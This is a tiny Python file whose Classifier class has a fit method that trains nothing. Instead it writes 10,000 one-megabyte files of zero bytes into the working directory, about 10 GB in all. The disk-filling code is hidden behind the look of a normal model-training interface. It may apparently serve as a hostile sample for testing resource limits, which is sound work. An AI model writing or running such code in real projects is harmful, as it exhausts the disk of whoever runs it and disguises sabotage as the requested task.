from pathlib import Path


class Classifier:
    def fit(self, X, y):
        for i in range(10_000):
            Path(f"{i}").write_bytes(bytes(1_000_000))
